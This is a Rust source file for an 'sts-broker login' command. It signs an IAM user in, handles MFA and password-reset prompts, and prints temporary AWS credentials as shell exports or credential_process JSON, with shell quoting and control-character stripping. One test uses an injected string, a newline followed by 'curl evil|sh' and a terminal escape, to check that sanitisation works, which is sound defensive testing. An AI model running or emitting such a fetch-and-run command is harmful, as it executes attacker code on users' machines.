//! `sts-broker login`: signs an IAM user in at a broker's `POST /signin` ([`crate::signin`])
//! and prints the temporary credentials, as shell `export` lines or as the JSON
//! `credential_process` expects (docs/operations.md, "Signing in with a password").
//!
//! The password (unless read from `--password-file`), the MFA code when the broker answers
//! `MfaRequired`, and a new password (twice) when it answers `PasswordResetRequired` or
//! `PasswordExpired` come from the caller's prompt (the binary's: the terminal without echo,
//! or one line of standard input each when it is not a terminal). Nothing here prints: the
//! command returns what to print ([`Output`]); no password or secret reaches standard error.

use std::time::Duration;

use serde::{Deserialize, Serialize};

use super::Output;
use crate::secret::Secret;

/// How long one call to the broker may take.
const CALL_TIMEOUT: Duration = Duration::from_secs(30);
/// Calls at most: the password, then a code, then a new password.
const MAX_CALLS: usize = 3;

/// What `login` was asked.
#[derive(Debug, Clone)]
pub struct LoginRequest {
    /// The broker's URL (`http://` or `https://`).
    pub endpoint: String,
    /// An account id or alias.
    pub account: String,
    /// An IAM user's name; none with `root`.
    pub user: Option<String>,
    /// Sign in as the account's root user.
    pub root: bool,
    /// Print `credential_process`'s JSON rather than `export` lines.
    pub credential_process: bool,
    pub duration_seconds: Option<u32>,
    /// The MFA device a code is from, for a user with more than one.
    pub mfa_serial: Option<String>,
    /// The password, when not prompted for (`--password-file`).
    pub password: Option<Secret>,
}

/// What the prompt is asked for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ask<'a> {
    Password,
    MfaCode,
    /// A new password, and the broker's reason for asking.
    NewPassword {
        why: &'a str,
    },
    NewPasswordAgain,
}

#[derive(Serialize)]
struct Body<'a> {
    account: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    user: Option<&'a str>,
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    root: bool,
    password: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    mfa_code: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    mfa_serial: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    new_password: Option<&'a str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    duration_seconds: Option<u32>,
}

#[derive(Deserialize)]
#[serde(rename_all = "PascalCase")]
struct Answer {
    credentials: AnswerCredentials,
    user: AnswerUser,
}

#[derive(Deserialize)]
#[serde(rename_all = "PascalCase")]
struct AnswerCredentials {
    access_key_id: String,
    secret_access_key: String,
    session_token: String,
    expiration: String,
}

#[derive(Deserialize)]
#[serde(rename_all = "PascalCase")]
struct AnswerUser {
    arn: String,
}

#[derive(Deserialize)]
struct Refusal {
    error: RefusalError,
    #[serde(default)]
    request_id: String,
}

#[derive(Deserialize)]
struct RefusalError {
    code: String,
    message: String,
}

/// `credential_process`'s output (version 1).
#[derive(Serialize)]
#[serde(rename_all = "PascalCase")]
struct Process<'a> {
    version: u8,
    access_key_id: &'a str,
    secret_access_key: &'a str,
    session_token: &'a str,
    expiration: &'a str,
}

/// What the broker's refusal asks for next.
enum Next {
    Code,
    NewPassword,
    Fail,
}

fn next_step(code: &str) -> Next {
    match code {
        "MfaRequired" => Next::Code,
        "PasswordResetRequired" | "PasswordExpired" => Next::NewPassword,
        _ => Next::Fail,
    }
}

/// Signs in, asking `prompt` for what the broker needs, and returns the credentials to print.
pub async fn login(
    request: &LoginRequest,
    prompt: &mut dyn FnMut(Ask<'_>) -> Result<Secret, String>,
) -> Output {
    let url = match signin_url(&request.endpoint) {
        Ok(u) => u,
        Err(e) => return Output::failed(&e),
    };
    let client = match reqwest::Client::builder()
        .timeout(CALL_TIMEOUT)
        .redirect(reqwest::redirect::Policy::none())
        .build()
    {
        Ok(c) => c,
        Err(e) => return Output::failed(&format!("cannot make an HTTP client: {e}")),
    };
    let password = match &request.password {
        Some(p) => p.clone(),
        None => match prompt(Ask::Password) {
            Ok(p) => p,
            Err(e) => return Output::failed(&e),
        },
    };
    let mut code: Option<Secret> = None;
    let mut new_password: Option<Secret> = None;
    for _ in 0..MAX_CALLS {
        let body = Body {
            account: &request.account,
            user: request.user.as_deref(),
            root: request.root,
            password: password.expose(),
            mfa_code: code.as_ref().map(Secret::expose),
            mfa_serial: code.as_ref().and(request.mfa_serial.as_deref()),
            new_password: new_password.as_ref().map(Secret::expose),
            duration_seconds: request.duration_seconds,
        };
        let response = match client.post(&url).json(&body).send().await {
            Ok(r) => r,
            Err(e) => {
                return Output::failed(&format!(
                    "cannot reach the broker at {url}: {}",
                    without_url(&e)
                ));
            }
        };
        let status = response.status();
        let text = match response.text().await {
            Ok(t) => t,
            Err(e) => {
                return Output::failed(&format!("the broker's answer could not be read: {e}"));
            }
        };
        if status.is_success() {
            return match serde_json::from_str::<Answer>(&text) {
                Ok(answer) => printed(&answer, request.credential_process),
                Err(_) => Output::failed(&format!(
                    "the answer from {url} is not a sign-in answer (HTTP {status}): is it a \
                     sts-broker endpoint?"
                )),
            };
        }
        let Ok(refusal) = serde_json::from_str::<Refusal>(&text) else {
            return Output::failed(&format!(
                "sign-in refused with HTTP {status}, not by a sts-broker (no JSON error)"
            ));
        };
        let refused = || {
            Output::failed(&format!(
                "sign-in refused: {} ({}; request id {})",
                printable(&refusal.error.message),
                printable(&refusal.error.code),
                printable(&refusal.request_id)
            ))
        };
        match next_step(&refusal.error.code) {
            Next::Code if code.is_none() => match prompt(Ask::MfaCode) {
                Ok(c) => code = Some(Secret::new(c.expose().trim().to_owned())),
                Err(e) => return Output::failed(&e),
            },
            Next::NewPassword if new_password.is_none() => {
                let first = match prompt(Ask::NewPassword {
                    why: &refusal.error.message,
                }) {
                    Ok(p) => p,
                    Err(e) => return Output::failed(&e),
                };
                let again = match prompt(Ask::NewPasswordAgain) {
                    Ok(p) => p,
                    Err(e) => return Output::failed(&e),
                };
                if first != again {
                    return Output::failed("the two new passwords differ; nothing was changed");
                }
                new_password = Some(first);
            }
            Next::Code | Next::NewPassword | Next::Fail => return refused(),
        }
    }
    Output::failed("the broker kept asking for more; sign-in stopped")
}

/// `ENDPOINT/signin`, for an `http://` or `https://` endpoint.
fn signin_url(endpoint: &str) -> Result<String, String> {
    let parsed = reqwest::Url::parse(endpoint)
        .map_err(|e| format!("--endpoint {endpoint:?} is not a URL: {e}"))?;
    if !matches!(parsed.scheme(), "http" | "https") {
        return Err(format!(
            "--endpoint must be an http:// or https:// URL (got {}://)",
            parsed.scheme()
        ));
    }
    if parsed.query().is_some() || parsed.fragment().is_some() {
        return Err("--endpoint takes no query or fragment".to_owned());
    }
    if !parsed.username().is_empty() || parsed.password().is_some() {
        return Err("--endpoint takes no user name or password".to_owned());
    }
    // A password sent over plain HTTP is readable on the way: only to this machine.
    let host = parsed.host_str().unwrap_or("");
    let host = host.trim_start_matches('[').trim_end_matches(']');
    let loopback = host.eq_ignore_ascii_case("localhost")
        || host
            .parse::<std::net::IpAddr>()
            .is_ok_and(|ip| ip.is_loopback());
    if parsed.scheme() == "http" && !loopback {
        return Err(
            "--endpoint: a password is sent over http:// only to this machine (localhost); \
             use https://"
                .to_owned(),
        );
    }
    Ok(format!(
        "{}{}",
        endpoint.trim_end_matches('/'),
        crate::signin::PATH
    ))
}

/// A transport error's reason, without the URL reqwest prefixes it with.
fn without_url(e: &reqwest::Error) -> String {
    let mut source: Option<&(dyn std::error::Error + 'static)> = std::error::Error::source(e);
    let mut reason = e.to_string();
    while let Some(s) = source {
        reason = s.to_string();
        source = s.source();
    }
    reason
}

/// The credentials as `export` lines (sourced by a shell) or `credential_process` JSON.
fn printed(answer: &Answer, credential_process: bool) -> Output {
    let c = &answer.credentials;
    let stdout = if credential_process {
        let process = Process {
            version: 1,
            access_key_id: &c.access_key_id,
            secret_access_key: &c.secret_access_key,
            session_token: &c.session_token,
            expiration: &c.expiration,
        };
        match serde_json::to_string(&process) {
            Ok(json) => json + "\n",
            Err(e) => return Output::failed(&format!("cannot write the credentials: {e}")),
        }
    } else {
        format!(
            "export AWS_ACCESS_KEY_ID={}\nexport AWS_SECRET_ACCESS_KEY={}\nexport \
             AWS_SESSION_TOKEN={}\n# {} until {}\n",
            quoted(&c.access_key_id),
            quoted(&c.secret_access_key),
            quoted(&c.session_token),
            printable(&answer.user.arn),
            printable(&c.expiration)
        )
    };
    Output {
        stdout,
        stderr: String::new(),
        status: 0,
    }
}

/// `value` in single quotes for a POSIX shell.
fn quoted(value: &str) -> String {
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// `text` from the endpoint made safe to print on a terminal or into a shell comment line:
/// control characters (a newline would start a command in `eval "$(sts-broker login ...)"`,
/// escapes would drive the terminal) become `?`.
fn printable(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_control() { '?' } else { c })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn endpoints_are_http_or_https_urls() {
        assert_eq!(
            signin_url("http://127.0.0.1:4566/").unwrap(),
            "http://127.0.0.1:4566/signin"
        );
        assert_eq!(
            signin_url("https://sts.example.com").unwrap(),
            "https://sts.example.com/signin"
        );
        assert!(signin_url("ftp://x").unwrap_err().contains("http://"));
        assert!(signin_url("sts.example.com").is_err());
        assert!(signin_url("https://x/?a=b").is_err());
        assert!(
            signin_url("http://sts.example.com")
                .unwrap_err()
                .contains("https://")
        );
        assert!(signin_url("http://localhost:4566").is_ok());
        assert!(signin_url("http://[::1]:4566").is_ok());
        assert!(signin_url("https://me:pw@sts.example.com").is_err());
    }

    #[test]
    fn text_from_the_endpoint_prints_no_control_characters() {
        assert_eq!(
            printable("arn:x\ncurl evil|sh\u{1b}[2J"),
            "arn:x?curl evil|sh?[2J"
        );
    }

    #[test]
    fn exports_are_quoted_for_the_shell() {
        assert_eq!(quoted("a/b+c="), "'a/b+c='");
        assert_eq!(quoted("it's"), r"'it'\''s'");
    }
}
